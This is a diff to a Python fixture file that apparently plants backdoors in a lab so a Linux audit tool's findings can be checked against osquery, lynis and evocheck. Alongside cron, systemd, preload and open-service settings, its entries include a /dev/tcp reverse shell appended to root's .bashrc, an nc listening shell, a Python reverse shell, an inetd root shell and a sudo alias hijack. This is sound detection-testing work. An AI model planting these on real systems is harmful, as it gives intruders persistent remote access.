@@ -46,7 +46,7 @@ OF_THE_LAB = [
 class Way:
     """One way. ``plant`` makes it, as root; the finding must have this kind, path and account.
 
-    ``entry`` must be a part of the finding's entry. ``sees`` tells which peers see it: osquery's tables, lynis,
+    ``entry`` must be a part of the finding's entry; a path of ``*`` fits every path. ``sees`` tells which peers see it: osquery's tables, lynis,
     checks like evocheck's.
     """
 
@@ -282,5 +282,138 @@ PRIVILEGE = (
         "pam_module", "/usr/lib/x86_64-linux-gnu/security/pam_extra.so"),
 )  # fmt: skip
 
-FAMILIES: dict[str, tuple[Way, ...]] = {"ssh": SSH, "accounts": ACCOUNTS, "privilege": PRIVILEGE}
+UNIT = "[Service]\\nExecStart=/bin/sleep 1d\\n"
+PERSISTENCE = (
+    Way("a crontab of a leaver", "echo '0 4 * * * true' | crontab -u bob -", "crontab", "/var/spool/cron/crontabs/bob", "bob",
+        "", "bob.leroy", osquery="crontab"),
+    Way("a crontab of nobody's", "echo '0 4 * * * true' > /var/spool/cron/crontabs/gone", "crontab",
+        "/var/spool/cron/crontabs/gone", "gone", osquery="crontab"),
+    Way("an at job", "install -m 700 -o bob -g daemon /dev/null /var/spool/cron/atjobs/a00001019f2d4c", "at_job",
+        "/var/spool/cron/atjobs/a00001019f2d4c", "bob", "", "bob.leroy"),
+    Way("a line in /etc/crontab", "echo '1 1 * * * root /root/x' >> /etc/crontab", "system_cron", "/etc/crontab", "root",
+        "line", osquery="crontab"),
+    Way("a file in cron.d", put("* * * * * root /root/x", "/etc/cron.d/sync"), "system_cron", "/etc/cron.d/sync",
+        osquery="crontab"),
+    Way("a script in cron.daily", put("true", "/etc/cron.daily/sync", mode="755"), "system_cron", "/etc/cron.daily/sync"),
+    Way("a package's cron script, changed", "echo true >> /etc/cron.daily/dpkg", "system_cron", "/etc/cron.daily/dpkg"),
+    Way("a systemd unit", f"printf '{UNIT}' > /etc/systemd/system/sync.service", "systemd_unit",
+        "/etc/systemd/system/sync.service", osquery="systemd_units"),
+    Way("a unit of the system, changed", "echo 'ExecStartPost=/root/x' >> /usr/lib/systemd/system/cron.service",
+        "systemd_unit", "/usr/lib/systemd/system/cron.service", osquery="systemd_units"),
+    Way("a linked unit", f"printf '{UNIT}' > /home/bob/x.service; ln -s /home/bob/x.service /etc/systemd/system/y.service",
+        "systemd_unit", "/etc/systemd/system/y.service", osquery="systemd_units"),
+    Way("a timer", "printf '[Timer]\\nOnCalendar=daily\\n' > /etc/systemd/system/sync.timer", "systemd_timer",
+        "/etc/systemd/system/sync.timer", osquery="systemd_units"),
+    Way("a socket", "printf '[Socket]\\nListenStream=4444\\n' > /etc/systemd/system/sync.socket", "systemd_socket",
+        "/etc/systemd/system/sync.socket", osquery="systemd_units"),
+    Way("a drop-in",
+        "mkdir -p /etc/systemd/system/cron.service.d; printf '[Service]\\nExecStartPre=/root/x\\n'"
+        " > /etc/systemd/system/cron.service.d/x.conf", "systemd_drop_in", "/etc/systemd/system/cron.service.d/x.conf"),
+    Way("a generator", put("true", "/etc/systemd/system-generators/x", mode="755"), "systemd_generator",
+        "/etc/systemd/system-generators/x"),
+    Way("a user's own unit",
+        "install -d -o bob -g bob /home/bob/.config /home/bob/.config/systemd /home/bob/.config/systemd/user;"
+        f" printf '{UNIT}' | install -o bob -g bob /dev/stdin /home/bob/.config/systemd/user/x.service",
+        "user_unit", "/home/bob/.config/systemd/user/x.service", "bob", "", "bob.leroy", osquery="systemd_units"),
+    Way("linger", "mkdir -p /var/lib/systemd/linger; touch /var/lib/systemd/linger/bob", "linger",
+        "/var/lib/systemd/linger/bob", "bob", "", "bob.leroy"),
+    Way("rc.local", put("/root/x", "/etc/rc.local", mode="755"), "rc_local", "/etc/rc.local", osquery="startup_items"),
+    Way("an init script", put("true", "/etc/init.d/sync", mode="755"), "init_script", "/etc/init.d/sync",
+        osquery="startup_items"),
+    Way("a udev rule", put('ACTION=="add", RUN+="/root/x"', "/etc/udev/rules.d/99-x.rules"), "udev_rule",
+        "/etc/udev/rules.d/99-x.rules"),
+    Way("root's start-up file", "echo 'nohup bash -i >/dev/tcp/192.0.2.9/1 &' >> /root/.bashrc", "shell_startup",
+        "/root/.bashrc", "root", "line"),
+    Way("a start-up file for everybody", put("alias sudo=/tmp/x", "/etc/profile.d/x.sh"), "shell_startup",
+        "/etc/profile.d/x.sh", None, "line"),
+    Way("a start-up file that everybody writes", "chmod 666 /home/bob/.bashrc", "startup_writable", "/home/bob/.bashrc",
+        "bob", "", "bob.leroy"),
+    Way("a hook of the message of the day", put("true", "/etc/update-motd.d/99-x", mode="755"), "hook_script",
+        "/etc/update-motd.d/99-x"),
+    Way("a preloaded library", put("/usr/lib/missing.so", "/etc/ld.so.preload"), "preload", "/etc/ld.so.preload"),
+    Way("a hook of apt", put('DPkg::Post-Invoke {"true";};', "/etc/apt/apt.conf.d/99x"), "apt_hook",
+        "/etc/apt/apt.conf.d/99x"),
+    Way("a process of a leaver", "setsid runuser -u bob -- sleep 1000 >/dev/null 2>&1 & sleep 0.2", "process", "*", "bob",
+        "sleep", "bob.leroy", osquery="processes"),
+    Way("a process without an account", "setsid setpriv --reuid 4321 --clear-groups sleep 1000 >/dev/null 2>&1 & sleep 0.2",
+        "orphan_process", "*", "uid 4321", "sleep", osquery="processes"),
+)  # fmt: skip
+
+NETWORK = (
+    Way("a firewall rule",
+        "nft add table inet old; nft add chain inet old input '{ type filter hook input priority 0; }';"
+        " nft add rule inet old input ip saddr 198.51.100.9 accept",
+        "firewall_rule", "nft inet old input", None, "198.51.100.9", "bob.leroy", osquery="iptables (not nft)"),
+    Way("a set of a firewall",
+        "nft add table inet older; nft add set inet older friends '{ type ipv4_addr; elements = { 203.0.113.5 }; }';"
+        " nft add chain inet older input '{ type filter hook input priority 0; }';"
+        " nft add rule inet older input ip saddr @friends accept",
+        "firewall_rule", "nft inet older input", None, "203.0.113.5"),
+    Way("a tcp wrapper that runs a program", put("ALL: ALL: spawn /root/x", "/etc/hosts.allow"), "tcp_wrapper",
+        "/etc/hosts.allow", None, "spawn", osquery="etc_hosts (no)"),
+    Way("an address of the tcp wrappers", put("sshd: 198.51.100.77", "/etc/hosts.allow"), "tcp_wrapper", "/etc/hosts.allow",
+        None, "198.51.100.77", "bob.leroy"),
+    Way("an OpenVPN static key", put("secret static.key", "/etc/openvpn/p2p.conf"), "openvpn_static_key",
+        "/etc/openvpn/p2p.conf"),
+    Way("OpenVPN without certificates",
+        put("server 10.9.0.0 255.255.255.0", "/etc/openvpn/pw.conf") + "; "
+        + put("verify-client-cert none", "/etc/openvpn/pw.conf"),
+        "openvpn_no_certificate", "/etc/openvpn/pw.conf"),
+    Way("OpenVPN's management port",
+        put("mode server", "/etc/openvpn/mgmt.conf") + "; " + put("management 0.0.0.0 7505", "/etc/openvpn/mgmt.conf"),
+        "openvpn_management", "/etc/openvpn/mgmt.conf"),
+    Way("a leaver's client file of OpenVPN",
+        put("mode server", "/etc/openvpn/ccd.conf") + "; " + put("client-config-dir /etc/openvpn/ccd", "/etc/openvpn/ccd.conf")
+        + "; " + put("ifconfig-push 10.9.0.7 10.9.0.8", "/etc/openvpn/ccd/bob-laptop"),
+        "openvpn_client", "/etc/openvpn/ccd/bob-laptop", None, "bob-laptop", "bob.leroy"),
+    Way("a leaver's WireGuard peer",
+        f"mkdir -p /etc/wireguard; printf '[Interface]\\nPrivateKey = x\\n\\n[Peer]\\nPublicKey = {BOB_PEER}\\n"
+        "AllowedIPs = 10.8.0.7/32\\n' > /etc/wireguard/wg0.conf",
+        "wireguard_peer", "/etc/wireguard/wg0.conf", None, BOB_PEER, "bob.leroy"),
+    Way("a listening shell", "mkfifo /tmp/f; setsid nc -l -p 4445 < /tmp/f >/dev/null 2>&1 & sleep 0.3", "listening_shell",
+        "/usr/bin/nc.openbsd", "root", "4445", osquery="listening_ports"),
+    Way("a shell that called out",
+        "setsid python3 -c 'import os, socket, subprocess; s = socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen();"
+        " c = socket.create_connection(s.getsockname()); a = s.accept()[0];"
+        " subprocess.run([\"bash\"], stdin=c, stdout=c)' >/dev/null 2>&1 & sleep 0.7",
+        "reverse_shell", "/usr/bin/bash", "root", "127.0.0.1", osquery="process_open_sockets"),
+    Way("a tunnel program", "install /bin/sleep /usr/local/bin/tmate; setsid /usr/local/bin/tmate 1000 >/dev/null 2>&1 & sleep 0.2",
+        "relayed_access", "/usr/local/bin/tmate", "root", "tmate", osquery="processes"),
+    Way("inetd", put("ingreslock stream tcp nowait root /bin/sh sh -i", "/etc/inetd.conf"), "inetd_service",
+        "/etc/inetd.conf", "root", "ingreslock"),
+    Way("docker on the network",
+        "mkdir -p /etc/docker; printf '{\n  \"hosts\": [\"tcp://0.0.0.0:2375\", \"unix:///run/docker.sock\"]\n}\n'"
+        " > /etc/docker/daemon.json", "docker_port", "/etc/docker/daemon.json"),
+)  # fmt: skip
+
+HBA = "/etc/postgresql/15/main/pg_hba.conf"
+SERVICES = (
+    Way("PostgreSQL from outside", put("host all bob 198.51.100.0/24 scram-sha-256", HBA), "postgres_hba", HBA, None, "bob",
+        evocheck="pg_hba"),
+    Way("PostgreSQL without a password", put("local all all trust", HBA), "postgres_hba", HBA, None, "local"),
+    Way("a user of a web area", put("bob:$apr1$x$y", "/etc/nginx/.htpasswd"), "htpasswd_user", "/etc/nginx/.htpasswd", "bob",
+        "", "bob.leroy"),
+    Way("a user of a web area elsewhere",
+        put("auth_basic_user_file /srv/users;", "/etc/nginx/conf.d/x.conf") + "; " + put("alice:$apr1$x$y", "/srv/users"),
+        "htpasswd_user", "/srv/users", "alice", "", "alice.martin"),
+    Way("a user of FTP", put("bob:$1$x:1:1::/:/bin/false", "/etc/proftpd/ftpd.passwd"), "service_user",
+        "/etc/proftpd/ftpd.passwd", "bob", "", "bob.leroy"),
+    Way("FTP for everybody", put("anonymous_enable=YES", "/etc/vsftpd.conf"), "ftp_anonymous", "/etc/vsftpd.conf",
+        evocheck="vsftpd"),
+    Way("FTP for accounts", put("local_enable=YES", "/etc/vsftpd.conf"), "ftp_accounts", "/etc/vsftpd.conf"),
+    Way("a user of Samba", put("bob:1000:XXX:XXX:[U]:LCT-1:", "/etc/samba/smbpasswd"), "service_user",
+        "/etc/samba/smbpasswd", "bob", "", "bob.leroy"),
+    Way("a share for guests", "mkdir -p /etc/samba; printf '[open]\\npath = /srv\\nguest ok = yes\\n' > /etc/samba/smb.conf",
+        "samba_guest", "/etc/samba/smb.conf", None, "open"),
+    Way("root over NFS", put("/srv 192.0.2.0/24(rw,no_root_squash)", "/etc/exports"), "nfs_root", "/etc/exports"),
+    Way("an open rsync module", "printf '[all]\\npath = /\\n' > /etc/rsyncd.conf", "rsync_module", "/etc/rsyncd.conf", None,
+        "all"),
+    Way("Redis without a password", put("bind 0.0.0.0", "/etc/redis/redis.conf") + "; "
+        + put("protected-mode no", "/etc/redis/redis.conf"), "redis_open", "/etc/redis/redis.conf", evocheck="redis"),
+    Way("memcached on the network", put("-l 0.0.0.0", "/etc/memcached.conf"), "memcached_open", "/etc/memcached.conf"),
+    Way("SNMP that writes", put("rwcommunity private", "/etc/snmp/snmpd.conf"), "snmp_write", "/etc/snmp/snmpd.conf"),
+)  # fmt: skip
+
+FAMILIES: dict[str, tuple[Way, ...]] = {"ssh": SSH, "accounts": ACCOUNTS, "privilege": PRIVILEGE,
+    "persistence": PERSISTENCE, "network": NETWORK, "services": SERVICES}  # fmt: skip
 WAYS = [way for rows in FAMILIES.values() for way in rows]
